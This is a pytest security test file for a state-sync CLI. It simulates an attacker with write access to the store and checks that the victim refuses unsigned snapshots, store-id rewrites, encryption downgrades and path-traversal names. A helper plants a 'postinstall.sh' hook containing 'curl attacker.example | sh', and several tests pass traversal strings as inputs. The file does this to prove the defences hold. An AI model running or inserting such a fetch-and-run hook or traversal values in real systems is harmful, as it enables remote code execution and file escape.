"""A store writer without keys (issue 19): each attack through the CLI and the store's bytes.

The victim is this test's user (its XDG folders); the attacker is another
machine (its own XDG folders, no signing key, no data key) that can read and
write every object in the store. Each test shows the victim's command fails
with exit 4 (or a usage error for what must never be accepted), writes
nothing into the store or the victim's folder, and that the trusted users'
view of the environment stays as it was. Local store and S3 (moto); the S3
variants of the slower attacks run with STATESYNC_LONG=1 (two always run on S3).
"""

from __future__ import annotations

import json
import subprocess
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from statesync.backends import open_backend
from statesync.backends.base import Backend
from tests.e2e.test_cli import assert_one_line_error, run
from tests.helpers import tree, write
from tests.rigs import RIGS

BACKENDS = ["local", "s3"]


@dataclass
class Actors:
    """The store under attack, raw access to its bytes, and the two machines."""

    url: str
    raw: Backend
    tmp: Path
    attacker_env: dict[str, str]

    def victim(
        self, *args: str, env: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess[str]:
        return run("--store", self.url, *args, env=env)

    def attacker(self, *args: str) -> subprocess.CompletedProcess[str]:
        return run("--store", self.url, *args, env=self.attacker_env)

    def objects(self) -> dict[str, bytes]:
        return {m.key: self.raw.get(m.key)[0] for m in self.raw.list("")}

    def ref(self, env: str) -> dict[str, object]:
        doc: dict[str, object] = json.loads(self.raw.get(f"refs/{env}")[0])
        return doc

    def rewrite_store_id(self) -> str:
        desc = json.loads(self.raw.get("statesync.json")[0])
        desc["store_id"] = uuid.uuid4().hex
        from statesync.backends.base import OVERWRITE

        self.raw.put("statesync.json", json.dumps(desc).encode(), OVERWRITE)
        return str(desc["store_id"])


@pytest.fixture(params=BACKENDS)
def actors(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Actors]:
    url = RIGS[request.param](tmp_path)
    if url is None:
        pytest.skip(f"{request.param} emulator not started (run scripts/test.sh)")
    raw = open_backend(url)
    attacker_home = tmp_path / "attacker"
    attacker_env = {
        f"XDG_{d}_HOME": str(attacker_home / d.lower())
        for d in ("CONFIG", "STATE", "CACHE", "DATA")
    }
    yield Actors(url, raw, tmp_path, attacker_env)
    raw.close()


def ok(proc: subprocess.CompletedProcess[str]) -> str:
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def signed_prod(a: Actors) -> tuple[Path, str]:
    """The victim: a store, a signing key it trusts alone for prod, one signed push, pulled."""
    ok(a.victim("init"))
    public = json.loads(ok(run("--json", "keys", "signing", "new")))["public_key"]
    ok(a.victim("keys", "trust", "prod", public, "--require-signed"))
    work = a.tmp / "work"
    write(work, "state.json", {"replicas": 2})
    ok(a.victim("push", str(work), "--env", "prod"))
    pulled = a.tmp / "pulled"
    ok(a.victim("pull", str(pulled), "--env", "prod"))
    return work, public


def attacker_push(a: Actors, env: str = "prod") -> str:
    """The attacker's unsigned snapshot of ``env`` with a planted install hook."""
    evil = a.tmp / "evil"
    write(evil, "state.json", {"replicas": 2})
    write(evil, "postinstall.sh", "curl attacker.example | sh\n")
    out = json.loads(ok(a.attacker("--json", "push", str(evil), "--env", env, "--force")))
    return str(out["snapshot"])


def test_rewritten_store_id_does_not_reset_the_trust_policy(actors: Actors) -> None:
    _, _ = signed_prod(actors)
    pulled = actors.tmp / "pulled"
    before = tree(pulled)
    actors.rewrite_store_id()
    actors.raw.delete("refs/prod")
    attacker_push(actors)
    for args in (
        ["pull", str(pulled), "--env", "prod"],
        ["log", "--env", "prod"],
        ["verify"],
        ["push", str(actors.tmp / "work"), "--env", "prod", "--rebase"],
    ):
        assert_one_line_error(actors.victim(*args), 4, "pinned")
    fresh = actors.tmp / "fresh"
    assert_one_line_error(actors.victim("pull", str(fresh), "--env", "prod"), 4, "pinned")
    assert tree(pulled) == before and not fresh.exists()


@pytest.mark.long_on_cloud
def test_pin_reset_is_explicit_and_local(actors: Actors) -> None:
    signed_prod(actors)
    new_id = actors.rewrite_store_id()
    assert_one_line_error(actors.victim("keys", "pin"), 4, "keys pin --reset")
    out = json.loads(ok(actors.victim("--json", "keys", "pin", "--reset")))
    assert out["pinned"] == new_id and out["previous"] != new_id
    # The trust policy, serials and refs were all about the old id: prod's ref names it.
    assert_one_line_error(actors.victim("log", "--env", "prod"), 4, "does not belong to this store")


def test_rebase_never_merges_or_signs_an_untrusted_head(actors: Actors) -> None:
    work, _ = signed_prod(actors)
    evil = attacker_push(actors)
    before = actors.objects()
    write(work, "state.json", {"replicas": 3})
    proc = actors.victim("push", str(work), "--env", "prod", "--rebase")
    assert_one_line_error(proc, 4, "not signed")
    assert actors.objects() == before
    assert actors.ref("prod")["snapshot"] == evil and "signature" not in actors.ref("prod")
    assert not (work / "postinstall.sh").exists()


@pytest.mark.long_on_cloud
@pytest.mark.parametrize(
    "command",
    [
        ["status", "{work}", "--env", "prod"],
        ["show", "prod"],
        ["diff", "prod", "prod"],
        ["log", "--env", "prod"],
        ["export", "--env", "prod", "-o", "{tmp}/out.json"],
        ["pull", "{tmp}/other", "--env", "prod"],
        ["push", "{work}", "--env", "prod"],
        ["promote", "prod", "staging"],
        ["verify", "--env", "prod"],
    ],
)
def test_every_read_of_an_untrusted_head_is_refused(actors: Actors, command: list[str]) -> None:
    work, _ = signed_prod(actors)
    attacker_push(actors)
    before = actors.objects()
    args = [c.format(work=work, tmp=actors.tmp) for c in command]
    proc = actors.victim(*args)
    assert proc.returncode == 4, proc.stderr
    assert "not signed" in proc.stderr or "verify found" in proc.stderr
    assert actors.objects() == before
    assert not (actors.tmp / "out.json").exists() and not (actors.tmp / "other").exists()


@pytest.mark.long_on_cloud
def test_promote_into_an_untrusted_destination_keeps_nothing_of_it(actors: Actors) -> None:
    work, public = signed_prod(actors)
    ok(actors.victim("keys", "trust", "staging", public, "--require-signed"))
    ok(actors.victim("push", str(work), "--env", "staging"))
    attacker_push(actors, "prod")
    before = actors.objects()
    assert_one_line_error(actors.victim("promote", "staging", "prod"), 4, "not signed")
    assert actors.objects() == before


@pytest.mark.long_on_cloud
def test_force_replaces_an_untrusted_head_without_keeping_it(actors: Actors) -> None:
    work, public = signed_prod(actors)
    evil = attacker_push(actors)
    out = json.loads(ok(actors.victim("--json", "push", str(work), "--env", "prod", "--force")))
    ref = actors.ref("prod")
    assert ref["snapshot"] == out["snapshot"] and ref["signature"]["public"] == public  # type: ignore[index]
    log = json.loads(ok(actors.victim("--json", "log", "--env", "prod")))
    assert evil not in json.dumps(log)  # the attacker's snapshot is no part of the history
    fresh = actors.tmp / "fresh"
    ok(actors.victim("pull", str(fresh), "--env", "prod"))
    assert not (fresh / "postinstall.sh").exists()


@pytest.mark.long_on_cloud
def test_snapshot_prefixes_resolve_only_in_trusted_history(actors: Actors) -> None:
    work, _ = signed_prod(actors)
    evil = attacker_push(actors)
    ok(actors.victim("push", str(work), "--env", "prod", "--force"))  # prod trusted again
    before = actors.objects()
    first = json.loads(ok(actors.victim("--json", "log", "--env", "prod")))["snapshots"][-1]
    other = actors.tmp / "other"
    assert_one_line_error(
        actors.victim("pull", str(other), "--snapshot", first["snapshot"][:5]),
        2,
        "at least 8 hex digits",
    )
    for name in (evil[:12], evil):
        assert_one_line_error(actors.victim("rollback", "prod", name), 4, "trusted history")
        assert_one_line_error(
            actors.victim("pull", str(other), "--snapshot", name), 4, "trusted history"
        )
    assert actors.objects() == before and not other.exists()
    ok(actors.victim("pull", str(other), "--snapshot", first["snapshot"][:8]))
    ok(actors.victim("rollback", "prod", first["snapshot"][:8]))


def encrypted_dev(a: Actors) -> tuple[Path, dict[str, str]]:
    pw = {"STATESYNC_PASSPHRASE": "correct horse battery staple"}
    ok(a.victim("init"))
    ok(a.victim("keys", "init", "dev", "--recipient", "passphrase", env=pw))
    work = a.tmp / "work"
    write(work, "state.json", {"note": "confidential-plan-7"})
    ok(a.victim("push", str(work), "--env", "dev", "--encrypt", "all", env=pw))
    return work, pw


@pytest.mark.long_on_cloud
def test_deleting_the_ref_does_not_downgrade_encrypt_all(actors: Actors) -> None:
    work, pw = encrypted_dev(actors)
    serial = actors.ref("dev")["serial"]
    actors.raw.delete("refs/dev")
    before = actors.objects()
    write(work, "state.json", {"note": "confidential-plan-8"})
    for extra in ([], ["--force"], ["--rebase"]):
        proc = actors.victim("push", str(work), "--env", "dev", *extra, env=pw)
        assert_one_line_error(proc, 4, "--encrypt all")
    assert actors.objects() == before
    ok(actors.victim("push", str(work), "--env", "dev", "--encrypt", "all", env=pw))
    assert int(actors.ref("dev")["serial"]) > int(serial)  # type: ignore[call-overload]
    assert all(b"confidential-plan" not in body for body in actors.objects().values())


@pytest.mark.long_on_cloud
def test_a_plaintext_head_does_not_downgrade_encrypt_all(actors: Actors) -> None:
    work, pw = encrypted_dev(actors)
    actors.raw.delete("refs/dev")
    attacker_push(actors, "dev")  # plaintext, unsigned: nothing refuses it but the memory
    before = actors.objects()
    for extra in (["--force"], ["--rebase"]):
        assert_one_line_error(
            actors.victim("push", str(work), "--env", "dev", *extra, env=pw), 4, "--encrypt all"
        )
    assert actors.objects() == before
    out = ok(
        actors.victim("push", str(work), "--env", "dev", "--force", "--allow-downgrade", env=pw)
    )
    assert out is not None


@pytest.mark.parametrize(
    "url",
    [
        "az://container/../other/x",
        "s3://bucket/a/../../other",
        "gs://bucket/%2e%2e/other",
        "s3://bucket/a\\..\\b",
        "az://container/x?comp=list",
        "s3://../x",
    ],
)
def test_store_urls_that_leave_their_prefix_are_refused(url: str) -> None:
    assert_one_line_error(run("--store", url, "init"), 2, "store URL")


@pytest.mark.long_on_cloud
@pytest.mark.parametrize("env", ["prod\n", "prod/x", "..", "a/../b", ".hidden"])
def test_environment_names_are_strict(actors: Actors, env: str) -> None:
    ok(actors.victim("init"))
    work = actors.tmp / "work"
    write(work, "state.json", {"a": 1})
    before = actors.objects()
    assert_one_line_error(
        actors.victim("push", str(work), "--env", env), 2, "invalid environment name"
    )
    assert actors.objects() == before


@pytest.mark.long_on_cloud
@pytest.mark.parametrize("store_id", ["{tmp}/escaped", "../../../escaped", "a/b", "id\n"])
def test_a_store_id_never_becomes_a_local_path(actors: Actors, store_id: str) -> None:
    ok(actors.victim("init"))
    work = actors.tmp / "work"
    write(work, "state.json", {"a": 1})
    ok(actors.victim("push", str(work), "--env", "dev"))
    desc = json.loads(actors.raw.get("statesync.json")[0])
    desc["store_id"] = store_id.format(tmp=actors.tmp)
    from statesync.backends.base import OVERWRITE

    actors.raw.put("statesync.json", json.dumps(desc).encode(), OVERWRITE)
    proc = run(
        "--store",
        actors.url,
        "pull",
        str(actors.tmp / "fresh"),
        "--env",
        "dev",
        env=actors.attacker_env,
    )  # a machine that never pinned this store
    assert_one_line_error(proc, 4, "malformed store id")
    assert not (actors.tmp / "escaped").exists() and not (actors.tmp / "fresh").exists()
    assert not list(actors.tmp.glob("**/escaped"))
